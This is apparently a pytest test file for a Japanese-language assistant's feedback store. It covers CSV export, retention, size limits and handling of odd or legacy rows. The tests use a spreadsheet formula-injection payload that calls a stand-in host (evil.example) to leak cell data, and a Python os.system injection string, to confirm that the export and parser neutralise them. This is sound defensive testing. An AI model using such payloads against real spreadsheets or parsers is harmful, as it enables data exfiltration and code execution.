"""Feedback rows hold plain text, the answer's kind, its sources and a reason; the CSV export staff use."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import time
import tracemalloc
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from helpers import isolated, put_rows
from pydantic import ValidationError

from assistant.__main__ import main
from assistant.api import create_api
from assistant.config import PROJECT_ROOT, Settings
from assistant.errors import FeedbackFullError
from assistant.feedback import (
    CSV_COLUMNS,
    STORED_ANSWER_CHARS,
    STORED_QUESTION_CHARS,
    Feedback,
    FeedbackStore,
    clipped,
    plain,
)
from assistant.spreadsheet import FORMULA_START, csv_cell


def test_rows_hold_plain_text_kind_sources_and_reason(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    store.add(Feedback(question="かなパスの担当は？", answer="デジタル政策課です。", rating="down", kind="who",
                       citations=["I17", "K07", "<bad id>"], reason="出典が合っていない"))
    row = store.rows()[0]
    assert row["question"] == "かなパスの担当は？"
    assert row["citations"] == "I17 K07" and row["kind"] == "who" and row["reason"] == "出典が合っていない"


def test_message_parts_are_refused_not_stored_as_a_repr() -> None:
    with pytest.raises(ValidationError):
        Feedback(question=[{"text": "かなパスの担当は？", "type": "text"}], answer="a", rating="up")


def test_old_databases_get_the_new_columns_and_old_reprs_are_unwrapped(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE feedback (id INTEGER PRIMARY KEY, at REAL, question TEXT, answer TEXT, "
                   "rating TEXT CHECK (rating IN ('up','down')), source TEXT)")
        db.execute("INSERT INTO feedback (at, question, answer, rating, source) VALUES (0, ?, 'a', 'up', 'ui')",
                   ("[{'text': 'ハッカソンの担当は？', 'type': 'text'}]",))
    store = FeedbackStore(path, keep_days=0)  # its first row is from 1970
    store.add(Feedback(question="q", answer="a", rating="down", reason="わかりにくい"))
    out = io.StringIO()
    assert store.export_csv(out) == 2
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == CSV_COLUMNS
    assert rows[1][4] == "ハッカソンの担当は？" and rows[2][3] == "わかりにくい"


def test_plain_keeps_ordinary_text() -> None:
    assert plain("[1] は出典です") == "[1] は出典です"
    assert plain(None) == ""


def test_feedback_export_command_writes_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "fb.sqlite3"
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(db))
    assert main(["feedback", "export"]) == 2  # nothing stored yet
    assert "ASSISTANT_FEEDBACK_DB" in capsys.readouterr().err
    store = FeedbackStore(db)
    store.add(Feedback(question="ハッカソンの担当は？", answer="市民協働推進課です。", rating="up", kind="who",
                       citations=["I35"], source="ui"))
    store.add(Feedback(question="明日の天気は？", answer="記載がありません。", rating="down", kind="decline",
                       reason="質問を理解していない"))
    target = tmp_path / "out.csv"
    assert main(["feedback", "export", "-o", str(target)]) == 0
    rows = list(csv.DictReader(target.read_text(encoding="utf-8-sig").splitlines()))
    assert [r["評価"] for r in rows] == ["👍", "👎"]
    assert rows[0]["質問"] == "ハッカソンの担当は？" and rows[0]["出典"] == "I35" and rows[0]["回答の種類"] == "who"
    assert rows[1]["理由"] == "質問を理解していない"
    assert main(["feedback", "export", "--rating", "down"]) == 0
    out = capsys.readouterr().out
    assert "明日の天気は？" in out and "ハッカソン" not in out


def test_api_feedback_accepts_reason_kind_and_citations(bot, tmp_path: Path) -> None:  # noqa: ANN001
    quiet = bot.with_settings(feedback_db=tmp_path / "fb.sqlite3", rate_limit_per_minute=0)
    client = TestClient(create_api(quiet))
    r = client.post("/api/feedback", json={"question": "q", "answer": "a", "rating": "down", "kind": "list",
                                           "citations": ["I02", "I03"], "reason": "わかりにくい", "source": "ui"})
    assert r.status_code == 200 and r.json() == {"id": 1}  # no totals of everyone's ratings
    schemas = client.get("/openapi.json").json()["components"]["schemas"]
    assert list(schemas["FeedbackSaved"]["properties"]) == ["id"] and schemas["FeedbackSaved"]["required"] == ["id"]
    sent = schemas["Feedback"]["properties"]  # what is taken, and what of it is kept
    assert sent["answer"]["maxLength"] == 20000 and f"first {STORED_ANSWER_CHARS:,} are stored" in sent["answer"]["description"]
    assert f"first {STORED_QUESTION_CHARS:,} are stored" in sent["question"]["description"]
    row = FeedbackStore(quiet.settings.feedback_path).rows()[0]
    assert (row["kind"], row["citations"], row["reason"]) == ("list", "I02 I03", "わかりにくい")


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(tmp_path: Path, start: str) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    text = f'{start}HYPERLINK("http://evil.example/?x="&A1,"詳細")'
    store.add(Feedback(question=text, answer=text, rating="down", kind=text[:40], reason=text))
    out = io.StringIO(newline="")
    store.export_csv(out)
    row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1]
    assert [row[i] for i in (3, 4, 5, 6)] == ["'" + text, "'" + text, "'" + text, "'" + text[:40]]


def test_csv_cell_leaves_ordinary_text_and_numbers_alone() -> None:
    assert [csv_cell(v) for v in ("かなパスの担当は？", " =1", "a=b", 17, None, b"I35", "", "—")] == [
        "かなパスの担当は？", " =1", "a=b", "17", "", "I35", "", "—"]
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@A1", "\t1", "\r1", -5)] == [
        "'=1", "'+1", "'-1", "'@A1", "'\t1", "'\r1", "'-5"]


ODD_ROWS = [  # (at, question, answer, rating, source) as another tool or an old version may have left them
    (None, None, None, None, None),
    ("yesterday", "[{'text': 1, []: 2}]", 42, "up", b"\xff\xfe"),
    (1e300, b"bytes", 3.5, "down", "ui"),
    (float("nan"), "[{'text': 'a', 'type': 'text'", "[{", "up", 7),
    (-1e20, "[{'text': '\\U00110000 \\ud800'}]", "", "down", "api"),
]


def test_export_survives_any_stored_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "fb.sqlite3"
    store = FeedbackStore(db, keep_days=0)
    with sqlite3.connect(db) as raw:
        raw.executemany("INSERT INTO feedback (at, question, answer, rating, source) VALUES (?, ?, ?, ?, ?)", ODD_ROWS)
        raw.execute("INSERT INTO feedback (at, question, answer, rating) VALUES (0, CAST(x'e3ff41' AS TEXT), 'a', 'up')")
    store.add(Feedback(question="[{'text': 1, []: 2}]", answer="a", rating="up"))
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(db))
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DAYS", "0")  # keep the rows from 1970 and before
    assert main(["feedback", "export", "-o", str(tmp_path / "out.csv")]) == 0
    assert "Traceback" not in capsys.readouterr().err
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(ODD_ROWS) + 2
    assert [r["日時(UTC)"] for r in rows[:4]] == ["", "", "", ""] and rows[0]["質問"] == rows[0]["評価"] == ""
    assert rows[1]["質問"] == rows[-1]["質問"] == "[{'text': 1, []: 2}]" and rows[1]["送信元"] == "\ufffd\ufffd"
    assert (rows[2]["質問"], rows[2]["回答"]) == ("bytes", "3.5") and rows[5]["質問"] == "\ufffd\ufffdA"
    assert rows[4]["質問"] == "\\U00110000 ?" and rows[5]["日時(UTC)"] == "1970-01-01 00:00:00"


def test_old_reprs_are_read_without_evaluating_them() -> None:
    assert plain("[{'text': \"it's \\u3042\\n\", 'type': 'text'}, {'text': 'b\\\\c', 'type': 'text'}]") == "it's あ\n b\\c"
    assert plain("[{'text': __import__('os').system('x')}]") == "[{'text': __import__('os').system('x')}]"
    assert plain("[{'text': 1, []: 2}]") == "[{'text': 1, []: 2}]"


def test_export_problems_exit_2_with_a_message_and_leave_no_half_written_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    import assistant.feedback as fb

    db = tmp_path / "fb.sqlite3"
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(db))
    target = tmp_path / "out.csv"
    target.write_text("the last good export")
    FeedbackStore(db).add(Feedback(question="q1", answer="a", rating="up"))
    FeedbackStore(db).add(Feedback(question="q2", answer="a", rating="up"))
    real = fb.csv_line
    rows = iter([real, lambda _r: (_ for _ in ()).throw(sqlite3.OperationalError("disk I/O error"))])
    monkeypatch.setattr(fb, "csv_line", lambda r: next(rows)(r))  # the second row fails mid-export
    assert main(["feedback", "export", "-o", str(target)]) == 2
    monkeypatch.setattr(fb, "csv_line", real)
    assert target.read_text() == "the last good export" and not list(tmp_path.glob(".*.part"))
    assert main(["feedback", "export", "-o", str(tmp_path / "no-such-dir" / "out.csv")]) == 2
    assert main(["feedback", "export", "-o", str(tmp_path)]) == 2  # a folder
    corrupt = tmp_path / "corrupt.sqlite3"
    corrupt.write_bytes(b"not a database" * 100)
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(corrupt))
    assert main(["feedback", "export"]) == 2
    locked = tmp_path / "locked.sqlite3"
    holder = sqlite3.connect(locked, isolation_level=None)
    holder.execute("CREATE TABLE feedback (id INTEGER PRIMARY KEY, at REAL, question TEXT, answer TEXT, "
                   "rating TEXT, source TEXT)")
    holder.execute("BEGIN EXCLUSIVE")  # an old version's server in the middle of a write
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(locked))
    try:
        assert main(["feedback", "export"]) == 2
    finally:
        holder.execute("ROLLBACK")
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.count("エラー:") == 5 and err.count("Error:") == 5
    assert "disk I/O error" in err and "not a database" in err and "locked" in err


def test_the_default_database_lives_in_var_apart_from_the_index(monkeypatch: pytest.MonkeyPatch) -> None:
    assert PROJECT_ROOT not in Settings().feedback_path.parents  # conftest: no test writes to the project's var/
    monkeypatch.delenv("ASSISTANT_FEEDBACK_DB")
    settings = Settings()
    assert settings.feedback_path == PROJECT_ROOT / "var" / "feedback.sqlite3"
    assert settings.index_dir not in settings.feedback_path.parents  # an index wipe or rebuild keeps the ratings
    assert "var/" in (PROJECT_ROOT / ".gitignore").read_text().split()


def test_ratings_past_the_retention_are_deleted_on_open_and_on_store(tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    db, day = tmp_path / "fb.sqlite3", 86400
    store = FeedbackStore(db, keep_days=30)
    put_rows(db, (time.time() - 31 * day, "old"), (time.time() - 29 * day, "recent"), (None, "no time"))
    store.add(Feedback(question="new", answer="a", rating="up"))
    assert [r["question"] for r in store.rows()] == ["recent", "no time", "new"]
    put_rows(db, (time.time() - 400 * day, "older"))
    assert len(FeedbackStore(db, keep_days=0).rows()) == 4  # 0 keeps everything
    assert [r["question"] for r in FeedbackStore(db, keep_days=30).rows()] == ["recent", "no time", "new"]
    assert FeedbackStore.from_settings(Settings()).keep_days == 365
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DAYS", "7")
    monkeypatch.setenv("ASSISTANT_FEEDBACK_DB", str(db))
    assert [r["question"] for r in FeedbackStore.from_settings(Settings()).rows()] == ["no time", "new"]


def row_bytes(db: Path, row_id: int) -> int:
    """What one stored row's values take, in bytes."""
    cols = ["at", "question", "answer", "rating", "source", "kind", "language", "citations", "reason"]
    with sqlite3.connect(db) as raw:
        total = " + ".join(f"IFNULL(length(CAST({c} AS BLOB)), 0)" for c in cols)
        return raw.execute(f"SELECT {total} FROM feedback WHERE id = ?", (row_id,)).fetchone()[0]


WORST = {"question": "𠮷" * 2000, "answer": "𠮷" * 20000, "rating": "down", "kind": "𠮷" * 40, "language": "𠮷" * 5,
         "citations": ["I" + "0" * 19] * 200, "reason": "𠮷" * 500}  # every field at its limit, 4 bytes a character


def cut_count(text: str) -> int:
    """How many characters the marker at the end of a stored text says were cut."""
    return int(re.search(r"以下 ([\d,]+) 文字省略 / ([\d,]+) more characters cut］$", text).group(1).replace(",", ""))


def test_a_row_keeps_a_bounded_question_and_answer_with_a_visible_cut_marker(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    worst = store.add(Feedback(**WORST))
    assert row_bytes(store.path, worst) < 44_000  # was about 95 KB
    row = store.rows()[0]
    assert len(row["question"]) <= STORED_QUESTION_CHARS and len(row["answer"]) <= STORED_ANSWER_CHARS
    assert row["question"].count("𠮷") + cut_count(row["question"]) == 2000
    assert row["answer"].count("𠮷") + cut_count(row["answer"]) == 20000
    short = store.add(Feedback(question="q" * STORED_QUESTION_CHARS, answer="a", rating="up"))
    assert store.rows()[short - 1]["question"] == "q" * STORED_QUESTION_CHARS


@pytest.mark.parametrize(("length", "limit"), [(99, 100), (100, 100), (101, 100), (10**6, 1000), (9999, 8000)])
def test_clipped_never_passes_its_limit_and_counts_what_it_cut(length: int, limit: int) -> None:
    text = "あ" * length
    out = clipped(text, limit)
    if length <= limit:
        assert out == text
    else:
        assert limit - 10 <= len(out) <= limit and out.count("あ") + cut_count(out) == length


def test_a_raters_new_rating_of_the_same_answer_replaces_the_old_one(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    first = store.add(Feedback(question="q", answer="a", rating="up"), rater="k")
    assert store.add(Feedback(question="q", answer="a", rating="down", reason="わかりにくい"), rater="k") == first
    assert store.add(Feedback(question="q", answer="a", rating="up"), rater="other") != first
    store.add(Feedback(question="q", answer="a", rating="up"))
    store.add(Feedback(question="q", answer="a", rating="up"))  # no rater: every one is kept
    rows = store.rows()
    assert [(r["rating"], r["reason"]) for r in rows] == [("down", "わかりにくい"), ("up", ""), ("up", ""), ("up", "")]
    assert len({r["rater"] for r in rows if r["rater"]}) == 2 and "q" not in rows[0]["rater"]


def test_api_ratings_of_one_answer_from_one_client_replace_each_other(bot, tmp_path: Path) -> None:  # noqa: ANN001
    proxied = isolated(bot, tmp_path, rate_limit_per_minute=0, trusted_proxies=["127.0.0.1"])
    client = TestClient(create_api(proxied), client=("127.0.0.1", 40000))

    def rate(rating: str, question: str = "q", who: str = "203.0.113.5") -> int:
        r = client.post("/api/feedback", json={"question": question, "answer": "a", "rating": rating},
                        headers={"X-Forwarded-For": who})
        assert r.status_code == 200
        return r.json()["id"]

    same = {rate("up"), rate("down"), rate("up"), rate("down")}
    others = {rate("up", question="q2"), rate("up", who="198.51.100.7")}
    rows = FeedbackStore(proxied.settings.feedback_path).rows()
    assert len(same) == 1 and not same & others and len(others) == 2
    assert [r["rating"] for r in rows] == ["down", "up", "up"]  # the last of the four is what stays


def fill(store: FeedbackStore, limit: int = 200) -> int:
    """Store distinct long ratings until the store refuses one; how many it took (bounded)."""
    for n in range(limit):
        try:
            store.add(Feedback(question=f"{n} 質問", answer="長" * 8000, rating="up"))
        except FeedbackFullError:
            return n
    raise AssertionError(f"still not full after {limit} ratings")


def test_storing_stops_at_the_size_limit_until_retention_makes_room(tmp_path: Path) -> None:
    db = tmp_path / "fb.sqlite3"
    store = FeedbackStore(db, keep_days=30, max_mb=0.5)
    took = fill(store)
    assert 15 <= took <= 25  # 24 KB rows in 512 KiB
    with sqlite3.connect(db) as raw:
        used = FeedbackStore.used_bytes(raw)
        raw.execute("UPDATE feedback SET at = ? WHERE id <= 10", (time.time() - 31 * 86400,))
    assert 0.5 * 1024 * 1024 <= used <= 0.5 * 1024 * 1024 + 44_000  # past the limit by one row at most
    with pytest.raises(FeedbackFullError):
        FeedbackStore(db, keep_days=0, max_mb=0.5).add(Feedback(question="q", answer="a", rating="up"))
    store.add(Feedback(question="after", answer="a", rating="up"))  # the ten old rows went first, in the same write
    assert len(store.rows()) == took - 10 + 1


def test_a_full_store_is_a_503_in_the_error_shape(bot, tmp_path: Path) -> None:  # noqa: ANN001
    client = TestClient(create_api(isolated(bot, tmp_path, rate_limit_per_minute=0, feedback_max_mb=0.1)))
    codes = [client.post("/api/feedback", json={"question": f"{n}", "answer": "長" * 20000, "rating": "up"})
             for n in range(10)]
    assert [r.status_code for r in codes].count(200) in (4, 5) and codes[-1].status_code == 503
    assert codes[-1].json() == {"error": {"code": "FeedbackFullError", "message_ja": FeedbackFullError.message_ja,
                                          "message_en": FeedbackFullError.message_en}}
    assert "503" in client.get("/openapi.json").json()["paths"]["/api/feedback"]["post"]["responses"]


class Sink:
    """A text stream that keeps nothing, only counts."""

    def __init__(self) -> None:
        self.chars = 0

    def write(self, text: str) -> int:
        """Count and drop."""
        self.chars += len(text)
        return len(text)


def test_export_streams_the_rows_instead_of_loading_the_table(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    with sqlite3.connect(store.path) as raw:
        raw.executemany("INSERT INTO feedback (at, question, answer, rating) VALUES (?, ?, ?, 'up')",
                        ((time.time(), f"q{n}", "長" * 8000) for n in range(600)))  # 9.6 MB as Python text
    out = Sink()
    tracemalloc.start()
    try:
        assert store.export_csv(out) == 600
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert out.chars > 600 * 8000 and peak < 1_000_000
